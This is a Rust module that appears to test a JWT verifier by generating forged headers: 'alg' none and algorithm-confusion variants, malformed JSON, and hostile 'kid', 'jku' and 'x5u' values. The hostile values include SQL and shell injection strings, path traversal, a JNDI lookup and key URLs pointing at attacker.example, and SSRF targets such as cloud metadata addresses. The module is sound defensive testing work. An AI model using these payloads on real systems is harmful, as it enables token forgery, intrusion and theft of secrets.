//! Attacks on the header: algorithm, key, type, extensions, its JSON. Unless named otherwise each is properly signed.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use super::{Forge, Hostile, prefixed};

pub(super) fn attacks(forge: &Forge<'_>) -> Vec<Hostile> {
    let mut all = algorithms(forge);
    all.extend(key_names(forge));
    all.extend(types(forge));
    all.extend(extensions(forge));
    all.extend(raw(forge));
    all
}

fn variants(forge: &Forge<'_>, member: &str, values: impl IntoIterator<Item = Option<Value>>) -> Vec<Hostile> {
    let sign = |value: Option<Value>| {
        let name = value.as_ref().map_or("missing".to_owned(), |value| value.to_string().chars().take(60).collect());
        let header = forge.header_with(member, value).to_string();
        (format!("{member}: {name}"), forge.sign(header.as_bytes(), &forge.payload))
    };
    values.into_iter().map(sign).collect()
}

fn algorithms(forge: &Forge<'_>) -> Vec<Hostile> {
    let mut all = Vec::new();
    for none in ["none", "None", "NONE", "nOnE", "nONE", "none ", " none", "", "null", "no\u{fb01}ne"] {
        let header = URL_SAFE_NO_PAD.encode(forge.header_with("alg", Some(json!(none))).to_string());
        let (_, payload, signature) = forge.parts();
        all.push((format!("alg {none:?} without signature"), format!("{header}.{payload}.")));
        all.push((format!("alg {none:?} without the last dot"), format!("{header}.{payload}")));
        all.push((format!("alg {none:?} with the old signature"), format!("{header}.{payload}.{signature}")));
        all.push((format!("alg {none:?}, signed"), forge.sign_text(&format!("{header}.{payload}"))));
    }
    let own = forge.header.get("alg").cloned().unwrap_or_default();
    let names = [
        "ES256",
        "HS256",
        "ES384",
        "ES512",
        "ES256K",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "EdDSA",
        "Ed25519",
        "Ed25519ph",
        "Ed448",
        "ML-DSA-44",
        "es256",
        "hs256",
        "rs256",
        "eddsa",
        "EDDSA",
        "ed25519",
        "ES256 ",
        "RS256 ",
        "EdDSA\u{0}",
        " ES256",
        "ES256\u{0}",
        "SHA256",
        "dir",
        "A256GCM",
        "\u{ff25}S256",
    ];
    all.extend(variants(forge, "alg", names.iter().map(|name| json!(name)).filter(|name| *name != own).map(Some)));
    all.extend(variants(
        forge,
        "alg",
        [None, Some(Value::Null), Some(json!(0)), Some(json!(true)), Some(json!([own])), Some(json!({ "alg": own }))],
    ));
    all
}

fn key_names(forge: &Forge<'_>) -> Vec<Hostile> {
    let own = forge.header.get("kid").and_then(Value::as_str).unwrap_or_default();
    let shorter: String = own.chars().skip(1).collect();
    let names = [
        String::new(),
        " ".to_owned(),
        format!("{own} "),
        format!(" {own}"),
        format!("{own}\0"),
        format!("{own}\n"),
        format!("{own}/"),
        format!("./{own}"),
        format!("{own}.pem"),
        format!("{own},{own}"),
        shorter,
        format!("{own}{own}"),
        "*".to_owned(),
        "%".to_owned(),
        "0".to_owned(),
        "null".to_owned(),
        "../../../../../../dev/null".to_owned(),
        "/dev/null".to_owned(),
        "/proc/self/environ".to_owned(),
        "C:\\Windows\\win.ini".to_owned(),
        "' OR '1'='1".to_owned(),
        "x' UNION SELECT 'secret' --".to_owned(),
        "\"; DROP TABLE keys; --".to_owned(),
        "| cat /etc/passwd".to_owned(),
        "$(id)".to_owned(),
        "{{7*7}}".to_owned(),
        "${jndi:ldap://attacker.example/a}".to_owned(),
        "https://attacker.example/jwks.json".to_owned(),
        "<script>".to_owned(),
        "A".repeat(4000),
    ];
    let values = [
        None,
        Some(Value::Null),
        Some(json!(0)),
        Some(json!(1.5)),
        Some(json!(true)),
        Some(json!([own])),
        Some(json!({ "kid": own })),
    ];
    let mut all = variants(forge, "kid", names.iter().map(|name| Some(json!(name))));
    all.extend(variants(forge, "kid", values));
    all
}

fn types(forge: &Forge<'_>) -> Vec<Hostile> {
    let names = [
        "",
        "JWT",
        "jwt",
        "at",
        "at jwt",
        "at+jwt ",
        " at+jwt",
        "at+jwt;v=1",
        "at+jwt\u{0}",
        "at%2Bjwt",
        "at-jwt",
        "rt+jwt",
        "dpop+jwt",
        "statuslist+jwt",
        "application/statuslist+jwt",
        "logout+jwt",
        "secevent+jwt",
        "id_token",
        "JOSE",
        "JOSE+JSON",
        "text/at+jwt",
        "application/",
        "application/application/at+jwt",
        "application/at+jwt/",
        "\u{ff41}t+jwt",
    ];
    let values = [None, Some(Value::Null), Some(json!(0)), Some(json!(["at+jwt"])), Some(json!({ "at+jwt": true }))];
    let mut all = variants(forge, "typ", names.iter().map(|name| Some(json!(name))));
    all.extend(variants(forge, "typ", values));
    all
}

fn extensions(forge: &Forge<'_>) -> Vec<Hostile> {
    let mut all = Vec::new();
    for (member, values) in [
        (
            "crit",
            vec![json!([]), json!(["exp"]), json!(["b64"]), json!(["alg"]), json!("exp"), Value::Null, json!(["x"])],
        ),
        ("b64", vec![json!(false), json!(true), Value::Null, json!("false")]),
        ("zip", vec![json!("DEF"), json!("none"), Value::Null]),
        ("enc", vec![json!("A256GCM"), Value::Null]),
        (
            "jku",
            vec![
                json!("https://attacker.example/jwks.json"),
                json!("http://127.0.0.1:1/"),
                json!("file:///etc/passwd"),
                Value::Null,
            ],
        ),
        ("x5u", vec![json!("https://attacker.example/chain.pem"), json!("http://169.254.169.254/"), Value::Null]),
        ("x5c", vec![json!(["MIIB"]), json!([]), Value::Null]),
        ("jwk", vec![json!({}), json!({ "kty": "oct", "k": "AAAA" }), Value::Null]),
    ] {
        all.extend(variants(forge, member, values.into_iter().map(Some)));
    }
    // RFC 7797: the payload unencoded, and said so.
    let header = forge.header_with("b64", Some(json!(false))).to_string();
    let header = super::with(&serde_json::from_str(&header).unwrap_or_default(), &["crit"], Some(json!(["b64"])));
    let header = URL_SAFE_NO_PAD.encode(header.to_string());
    let claims = String::from_utf8_lossy(&forge.payload);
    all.push(("b64: unencoded payload".to_owned(), forge.sign_text(&format!("{header}.{claims}"))));
    all.push(("b64: encoded payload".to_owned(), forge.sign_text(&format!("{header}.{}", forge.parts().1))));
    all.push(("b64: detached payload".to_owned(), {
        let signed = (forge.sign)(&format!("{header}.{}", forge.parts().1));
        format!("{header}..{}", URL_SAFE_NO_PAD.encode(signed))
    }));
    all
}

/// Headers that are not the strict JSON object that they should be.
fn raw(forge: &Forge<'_>) -> Vec<Hostile> {
    let header = &forge.header_text;
    let mut texts: Vec<(&str, Vec<u8>)> = vec![
        ("alg twice, the first none", prefixed(header, r#""alg":"none""#).into_bytes()),
        ("alg twice, one escaped", prefixed(header, r#""\u0061lg":"none""#).into_bytes()),
        ("kid twice", prefixed(header, r#""kid":"x""#).into_bytes()),
        ("typ twice", prefixed(header, r#""typ":"JWT""#).into_bytes()),
        ("a member twice inside another", prefixed(header, r#""x":{"y":1,"y":1}"#).into_bytes()),
        ("crit, escaped", prefixed(header, r#""cr\u0069t":["exp"]"#).into_bytes()),
        ("deep", prefixed(header, &format!("\"x\":{}{}", "[".repeat(64), "]".repeat(64))).into_bytes()),
        ("lone surrogate", prefixed(header, r#""x":"\ud800""#).into_bytes()),
        ("NUL", prefixed(header, r#""x":"\u0000""#).into_bytes()),
        ("in an array", format!("[{header}]").into_bytes()),
        ("a string", json!(header).to_string().into_bytes()),
        ("null", b"null".to_vec()),
        ("empty object", b"{}".to_vec()),
        ("something after it", format!("{header}x").into_bytes()),
        ("twice", format!("{header}{header}").into_bytes()),
        ("cut short", header.trim_end_matches('}').as_bytes().to_vec()),
        ("trailing comma", header.replacen('}', ",}", 1).into_bytes()),
        ("comment", format!("/**/{header}").into_bytes()),
        ("single quotes", header.replace('"', "'").into_bytes()),
        ("byte order mark", format!("\u{feff}{header}").into_bytes()),
        ("UTF-16", header.encode_utf16().flat_map(u16::to_le_bytes).collect()),
    ];
    let mut broken = prefixed(header, "\"x\":\"").into_bytes();
    broken.splice(6..6, *b"\xff\"");
    texts.push(("not UTF-8", broken));
    texts.into_iter().map(|(name, text)| (format!("header: {name}"), forge.sign(&text, &forge.payload))).collect()
}
